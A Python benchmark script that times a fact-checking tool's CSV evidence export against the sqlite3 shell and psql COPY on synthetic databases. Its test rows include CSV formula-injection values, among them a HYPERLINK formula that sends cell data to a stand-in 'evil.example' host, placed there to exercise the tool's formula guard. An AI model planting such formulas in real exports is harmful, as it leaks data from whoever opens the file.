"""Print how fast `factcheck export evidence` streams, against the databases' own CSV writers.

Builds a database of N evidence rows (bulk inserts: executemany on SQLite, COPY on PostgreSQL)
with Chinese text, formula-like cells, commas, quotes, newlines and negative figures, then
exports the same rows (the query factcheck runs, compiled to SQL, without the formula guard, so
the guard's cost counts against factcheck) with:

    factcheck   the installed CLI, formula guard on, BOM on (a child process: time + peak RSS)
    sqlite3     the `sqlite3 -csv -header` command-line shell
    psql        `COPY (...) TO STDOUT WITH CSV HEADER` through psql

Targets (issue 13): factcheck <= 2x the sqlite3 shell's time and <= 2x psql's COPY, peak RSS
< 100 MB including start-up. The runs of all exporters are interleaved (one of each, then the
next round), so that a busy machine slows them alike; times are medians.

`--also NAME=COMMAND` measures another factcheck alongside (e.g. the version before a change,
`--also before="env PYTHONPATH=/tmp/old python -m factcheck"`), in the same rounds.

    python benchmarks/export.py [--rows 1000000] [--repeat 3] [--backends sqlite,postgresql]
                                [--also NAME=COMMAND ...]
"""

from __future__ import annotations

import argparse
import csv
import os
import shlex
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import psycopg
from sqlalchemy.dialects import postgresql, sqlite

from factcheck.editorial.export import Filters, evidence_statement
from factcheck.storage import db

PG_DSN = os.environ.get("FACTCHECK_BENCH_PG", "postgresql://postgres@127.0.0.1:5432/test")
CLAIMS, SOURCES = 100, 10  # evidence is unique per (run, claim, source, role)
FACTCHECK = str(Path(sys.executable).parent / "factcheck")
TIME = "/usr/bin/time"  # GNU time: -f %M prints the peak RSS in KB
START = datetime(2025, 1, 1, tzinfo=UTC)
TIME_TARGET, RSS_TARGET_MB = 2.0, 100.0
RAW = [
    "4050 亿个参数",
    "-50%",
    '=HYPERLINK("http://evil.example/?x="&A1,"405B")',
    "@SUM(A1:A9)",
    "+1 866 555 0100",
    'about $0.50, or "half"',
    "每百万个输入词元的价格为零点五美元",
]
EXCERPT = [
    "我们发布了三个模型……4050 亿、700 亿和 80 亿个参数的模型。",
    "=1+1",
    "Llama 3.1 405B, 70B, and 8B: open weights,\nwith a second line",
    "\t-tab first",
    "plain English text of a typical excerpt around the figure that was found",
]
VALUES = ["405000000000", "-0.5", "0.0000035", None, "70000000000", "-12"]


def evidence_rows(count: int) -> Iterator[tuple[object, ...]]:
    per_run = CLAIMS * SOURCES
    for i in range(count):
        run, rest = divmod(i, per_run)
        claim, source = divmod(rest, SOURCES)
        failed = i % 50 == 49
        yield (
            run + 1,
            claim + 1,
            source + 1,
            "value",
            "regex",
            r"(?P<value>\d+B)",
            START + timedelta(seconds=i),
            None if failed else 200,
            None if failed else RAW[i % len(RAW)],
            None if failed else VALUES[i % len(VALUES)],
            None if failed else "parameters",
            None if failed else EXCERPT[i % len(EXCERPT)],
            "[]",
            "none" if failed else "supports",
            False,
            "timeout" if failed else None,
            "-read timed out" if failed else None,
        )


COLUMNS = (
    "run_id, claim_id, source_id, role, rule_kind, rule, fetched_at, http_status, raw, value,"
    " unit, excerpt, hits, stance, reused, error_code, error_message"
)


def build(url: str, rows: int, backend: str) -> float:
    started = time.perf_counter()
    engine = db.make_engine(url, must_exist=False)
    db.upgrade(engine)
    runs = -(-rows // (CLAIMS * SOURCES))
    raw = engine.raw_connection()
    try:
        cur = raw.cursor()
        mark = "?" if backend == "sqlite" else "%s"
        now = START
        cur.executemany(
            f"INSERT INTO run (trigger, status, started_at, claims_count, sources_count,"
            f" errors_count, changes_count, note) VALUES ('manual', 'succeeded', {mark}, 0, 0,"
            f" 0, 0, '')",
            [(now,) for _ in range(runs)],
        )
        cur.executemany(
            f"INSERT INTO source (key, url, format, title, publisher, recheck_hours,"
            f" created_at, updated_at) VALUES ({mark}, {mark}, 'text', '', '', 24, {mark}, {mark})",
            [(f"src-{i}", f"https://example.org/{i}", now, now) for i in range(SOURCES)],
        )
        cur.executemany(
            f"INSERT INTO claim (key, statement, language, statement_en, speaker, subject,"
            f" property, kind, comparison, status, created_at, updated_at) VALUES ({mark},"
            f" {mark}, 'zh', '', '', '', '', 'quantity', 'approx', 'active', {mark}, {mark})",
            [
                (f"claim-{i}", "这是我们首次发布 4050 亿个参数的模型", now, now)
                for i in range(CLAIMS)
            ],
        )
        if backend == "sqlite":
            stamp = "%Y-%m-%d %H:%M:%S.%f"
            cur.executemany(
                f"INSERT INTO evidence ({COLUMNS}) VALUES ({', '.join('?' * 17)})",
                ((*r[:6], r[6].strftime(stamp), *r[7:]) for r in evidence_rows(rows)),  # type: ignore[attr-defined]
            )
        else:
            with cur.copy(f"COPY evidence ({COLUMNS}) FROM STDIN") as copy:  # type: ignore[attr-defined]
                for row in evidence_rows(rows):
                    copy.write_row(row)
        raw.commit()
    finally:
        raw.close()
        engine.dispose()
    return time.perf_counter() - started


def timed(command: list[str], out: Path, env: dict[str, str] | None) -> tuple[float, float, float]:
    """Seconds, peak RSS (MB) and CPU seconds (user + system) of one child writing `out`,
    measured by /usr/bin/time (a small parent, so the RSS is the exporter's own, not this
    Python's pages copied by fork). CPU time is what a busy machine changes least; a
    database server's own CPU (COPY's) is not in it."""
    report = out.with_suffix(".time")
    with out.open("wb") as handle:
        started = time.perf_counter()
        done = subprocess.run(
            [TIME, "-f", "%M %U %S", "-o", str(report), *command],
            stdout=handle,
            stderr=subprocess.PIPE,
            env=env,
            check=False,
        )
        elapsed = time.perf_counter() - started
    if done.returncode != 0:
        raise SystemExit(f"{command[0]} failed: {done.stderr.decode(errors='replace')}")
    rss, user, system = report.read_text().split()[-3:]
    return elapsed, int(rss) / 1024, float(user) + float(system)


def records(path: Path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return sum(1 for _ in csv.reader(handle)) - 1


Exporter = tuple[str, list[str], Path, "dict[str, str] | None"]


def measure(exporters: list[Exporter], repeat: int) -> dict[str, tuple[float, float]]:
    """Median seconds and peak RSS of each exporter, runs interleaved round by round."""
    runs: dict[str, list[tuple[float, float, float]]] = {name: [] for name, *_ in exporters}
    for _ in range(repeat):
        for name, command, out, env in exporters:
            runs[name].append(timed(command, out, env))
    figures = {}
    for name, _command, out, _env in exporters:
        seconds = statistics.median(r[0] for r in runs[name])
        rss = max(r[1] for r in runs[name])
        cpu = statistics.median(r[2] for r in runs[name])
        size = out.stat().st_size / 1e6
        print(
            f"  {name:<36} median {seconds:7.2f} s (CPU {cpu:6.2f} s)   peak RSS {rss:6.1f} MB"
            f"   ({size:.0f} MB)"
        )
        figures[name] = (seconds, rss)
    return figures


def ours(url: str, work: Path, also: list[tuple[str, list[str]]]) -> list[Exporter]:
    """factcheck's exports: start-up only (no rows), the export, and any `--also` commands."""
    exporters: list[Exporter] = [
        (
            "factcheck, 0 rows (start-up only)",
            [FACTCHECK, "--db", url, "export", "evidence", "--since", "2999-01-01"],
            work / "z.csv",
            None,
        ),
        (
            "factcheck export evidence",
            [FACTCHECK, "--db", url, "export", "evidence"],
            work / "f.csv",
            None,
        ),
    ]
    for i, (name, prefix) in enumerate(also):
        command = [*prefix, "--db", url, "export", "evidence"]
        exporters.append((f"{name} export evidence", command, work / f"a{i}.csv", None))
    return exporters


def bench_sqlite(rows: int, repeat: int, work: Path, also: list[tuple[str, list[str]]]) -> None:
    path = work / "bench.db"
    url = f"sqlite:///{path}"
    print(f"SQLite: built {rows:,} evidence rows in {build(url, rows, 'sqlite'):.1f} s")
    query = evidence_statement(dialect="sqlite", filters=Filters(), claim_ids=None, guard=False)
    sql = str(query.compile(dialect=sqlite.dialect(), compile_kwargs={"literal_binds": True}))
    shell = ["sqlite3", "-csv", "-header", str(path), sql + ";"]
    exporters = [
        *ours(url, work, also),
        ("sqlite3 -csv -header (same rows)", shell, work / "s.csv", None),
    ]
    figures = measure(exporters, repeat)
    check(exporters, rows)
    verdicts(figures, "sqlite3 -csv -header (same rows)", "the sqlite3 shell")
    path.unlink()


def bench_postgresql(rows: int, repeat: int, work: Path, also: list[tuple[str, list[str]]]) -> None:
    schema = f"bench_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(PG_DSN, autocommit=True) as conn:
        conn.execute(f'CREATE SCHEMA "{schema}"')
    try:
        url = f"{PG_DSN}?options=-csearch_path%3D{schema}"
        print(f"PostgreSQL: built {rows:,} evidence rows in {build(url, rows, 'postgresql'):.1f} s")
        query = evidence_statement(
            dialect="postgresql", filters=Filters(), claim_ids=None, guard=False
        )
        sql = str(
            query.compile(dialect=postgresql.dialect(), compile_kwargs={"literal_binds": True})
        )
        env = {**os.environ, "PGOPTIONS": f"-csearch_path={schema}"}
        copy = ["psql", "-X", "-q", "-d", PG_DSN, "-c", f"COPY ({sql}) TO STDOUT WITH CSV HEADER"]
        name = "psql COPY ... TO STDOUT WITH CSV"
        exporters = [*ours(url, work, also), (name, copy, work / "p.csv", env)]
        figures = measure(exporters, repeat)
        check(exporters, rows)
        verdicts(figures, name, "COPY")
    finally:
        with psycopg.connect(PG_DSN, autocommit=True) as conn:
            conn.execute(f'DROP SCHEMA "{schema}" CASCADE')


def check(exporters: list[Exporter], rows: int) -> None:
    """Every export (but the empty one) holds the same number of rows."""
    for name, _command, out, _env in exporters:
        if "0 rows" in name:
            continue
        counted = records(out)
        if counted != rows:
            raise SystemExit(f"{name}: {counted} rows, not {rows}")


def verdicts(figures: dict[str, tuple[float, float]], reference: str, label: str) -> None:
    """Each factcheck export against the reference, and its peak RSS, against the targets."""
    base, _ = figures[reference]
    for name, (seconds, rss) in figures.items():
        if name == reference or "0 rows" in name:
            continue
        ratio = seconds / base if base else float("inf")
        time_ok = "meets" if ratio <= TIME_TARGET else "misses"
        rss_ok = "meets" if rss < RSS_TARGET_MB else "misses"
        print(
            f"  => {name}: {ratio:.2f}x {label} ({time_ok} <= {TIME_TARGET:g}x);"
            f" peak RSS {rss:.0f} MB ({rss_ok} < {RSS_TARGET_MB:g} MB)"
        )


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--rows", type=int, default=1_000_000, help="evidence rows to build")
    parser.add_argument("--repeat", type=int, default=3, help="runs per exporter (median)")
    parser.add_argument("--backends", default="sqlite,postgresql", help="sqlite,postgresql")
    parser.add_argument(
        "--also",
        action="append",
        default=[],
        metavar="NAME=COMMAND",
        help="another factcheck command to measure in the same rounds (repeatable)",
    )
    args = parser.parse_args()
    also = [
        (name, shlex.split(command)) for name, _, command in (a.partition("=") for a in args.also)
    ]
    work = Path(tempfile.mkdtemp(prefix="factcheck-bench-"))
    try:
        for backend in args.backends.split(","):
            if backend == "sqlite":
                if shutil.which("sqlite3") is None:
                    print("SQLite: skipped, the sqlite3 shell is not installed")
                    continue
                bench_sqlite(args.rows, args.repeat, work, also)
            elif backend == "postgresql":
                if shutil.which("psql") is None:
                    print("PostgreSQL: skipped, psql is not installed")
                    continue
                bench_postgresql(args.rows, args.repeat, work, also)
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
